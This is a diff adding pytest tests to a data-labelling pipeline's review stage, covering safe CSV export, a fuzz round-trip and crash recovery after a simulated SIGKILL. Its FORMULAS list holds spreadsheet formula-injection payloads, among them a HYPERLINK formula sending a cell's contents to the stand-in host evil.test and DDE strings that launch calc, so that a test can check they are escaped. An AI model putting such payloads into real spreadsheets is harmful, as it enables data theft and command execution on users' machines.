@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 from pathlib import Path
 
 import numpy as np
 import pyarrow.parquet as pq
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from schemas.audit import AuditParams
 from schemas.label import LabelImport
@@ -20,6 +23,7 @@ from stages.lib.review import exports
 from stages.lib.review.queues import active_queue, issue_queue, uncertainty
 
 from ..refine_helpers import answer_label_studio
+from .lib.fuzz import FUZZ
 from .test_audit import sms_rows, write_split
 
 FIXTURES = Path(__file__).parents[1] / "fixtures" / "annotation_exports"
@@ -148,3 +152,142 @@ def test_stage_writes_both_queues_with_budgets(tmp_path):
     first = {f.name: f.read_bytes() for f in (tmp_path / "review/active").iterdir()}
     review.run(cfg, AuditParams(folds=3), p, a.issues, split)
     assert first == {f.name: f.read_bytes() for f in (tmp_path / "review/active").iterdir()}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?"&A1,"open")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1 after a carriage return",
+    "'=already quoted",
+]
+
+
+def _formula_tasks() -> list[dict]:
+    return [
+        {
+            "id": f"f{n}",
+            "text": text,
+            "label": "=bad" if n % 2 else "-1",
+            "suggested_label": "@risky" if n % 2 else "+1",
+            "score": 0.5,
+            "reason": "label_issue",
+        }
+        for n, text in enumerate(FORMULAS)
+    ]
+
+
+def test_tasks_csv_has_no_cell_a_spreadsheet_runs_and_reads_back_exactly(tmp_path):
+    tasks = _formula_tasks()
+    folder = tmp_path / "data/annotations/round1"
+    exports.write_queue(folder, tasks, ["csv"], "label", "refinery-abc")
+    raw = (folder / "tasks.csv").read_bytes().decode("utf-8")
+    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in ("-1", "+1")]
+    assert "'=HYPERLINK(" in raw and "'=bad" in raw and "'@risky" in raw
+    # an annotator copies the suggestion into a `label` column; the label stage reads every cell back exactly
+    with open(folder / "tasks.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    with open(folder / "answered.csv", "w", newline="", encoding="utf-8") as fh:
+        writer = csv.DictWriter(fh, [*rows[0], "label"])
+        writer.writeheader()
+        writer.writerows({**r, "label": r["suggested_label"]} for r in rows)
+    path = "data/annotations/round1/answered.csv"
+    by_id = _read(tmp_path, "csv", path, join="id", key="row_id")
+    assert [(a.key, a.labels, a.problem) for a in by_id] == [(t["id"], [t["suggested_label"]], None) for t in tasks]
+    by_text = _read(tmp_path, "csv", path, join="text", key="text", question="current_label")
+    assert [(a.key, a.labels) for a in by_text] == [(t["text"], [t["label"]]) for t in tasks]
+
+
+@FUZZ
+@given(st.text(min_size=1, max_size=30).filter(lambda s: s.strip("\x00") != ""))
+def test_fuzz_any_text_survives_tasks_csv_and_the_label_reader(tmp_path_factory, text):
+    root = tmp_path_factory.mktemp("fuzz")
+    task = {"id": "x1", "text": text, "label": text, "suggested_label": "ham", "score": 0.5, "reason": "z"}
+    exports.write_queue(root / "data/r", [task], ["csv"], "label", "v")
+    got = _read(root, "csv", "data/r/tasks.csv", join="text", key="text", question="current_label")
+    assert [(a.key, a.labels) for a in got] == [(text, [text] if text.strip() else [])]
+
+
+# Runs `python -m stages.review` but dies with SIGKILL right after its first output is renamed into place.
+KILLER = """
+import os, signal, sys, runpy
+real_replace = os.replace
+def replace(src, dst, *args, **kwargs):
+    real_replace(src, dst, *args, **kwargs)
+    if ".refinery" not in str(dst):
+        os.kill(os.getpid(), signal.SIGKILL)
+os.replace = replace
+sys.argv = ["stages/review.py"]
+runpy.run_module("stages.review", run_name="__main__")
+"""
+REVIEW_OUTPUTS = ("metrics/review.json", "metrics/details/review.json")
+
+
+def _review_project(folder: Path, budget: int) -> Path:
+    import yaml
+
+    from ..conftest import REPO
+
+    params = yaml.safe_load((REPO / "params.yaml").read_text())
+    params["audit"]["folds"] = 3
+    params["review"]["issues"]["budget"] = budget
+    params["review"]["active"]["budget"] = budget
+    folder.mkdir(exist_ok=True)
+    (folder / "params.yaml").write_text(yaml.safe_dump(params, sort_keys=False))
+    if not (folder / "data/audit/issues.parquet").is_file():
+        rows = sms_rows(300)
+        for r in rows[200:240]:
+            r["split"], r["label"] = "unlabeled", None
+        split = write_split(folder / "data/split", rows)
+        a = AuditPaths(
+            issues=str(folder / "data/audit/issues.parquet"),
+            details=str(folder / "a/d.json"),
+            metrics=str(folder / "a/m.json"),
+            plot=str(folder / "a/p.json"),
+        )
+        audit.run(AuditParams(folds=3), a, split)
+    return folder
+
+
+def _review_outputs(folder: Path) -> dict[str, bytes]:
+    files = {n: (folder / n).read_bytes() for n in REVIEW_OUTPUTS}
+    files |= {str(p.relative_to(folder)): p.read_bytes() for p in sorted((folder / "data/review").rglob("*.*"))}
+    return files
+
+
+def _run_review(folder: Path, *prefix: str):
+    import os
+    import subprocess
+    import sys
+
+    from ..conftest import REPO
+
+    env = {**os.environ, "PYTHONPATH": str(REPO)}
+    cmd = [sys.executable, *(prefix or ("-m", "stages.review"))]
+    return subprocess.run(cmd, cwd=folder, env=env, capture_output=True, text=True, timeout=300)
+
+
+@pytest.mark.slow
+def test_sigkill_between_the_renames_leaves_all_old_or_all_new(tmp_path):
+    """review writes a folder and two metrics files: a kill after the first rename is rolled forward."""
+    import signal
+
+    expected = _review_project(tmp_path / "expected", budget=6)
+    assert _run_review(expected).returncode == 0
+    work = _review_project(tmp_path / "work", budget=3)
+    first = _run_review(work)
+    assert first.returncode == 0, first.stderr
+    old = _review_outputs(work)
+    _review_project(work, budget=6)
+    killed = _run_review(work, "-c", KILLER)
+    assert killed.returncode == -signal.SIGKILL, killed.stderr
+    assert _review_outputs(work) != old and list((work / ".refinery").glob("*.json"))  # a mixed pair, a journal
+    (work / "params.yaml").write_text("review: [")  # not even YAML: the repair runs first
+    failed = _run_review(work)
+    assert failed.returncode == 1
+    assert _review_outputs(work) == _review_outputs(expected)  # rolled forward: all new, byte for byte
+    assert not list((work / ".refinery").glob("*.json"))
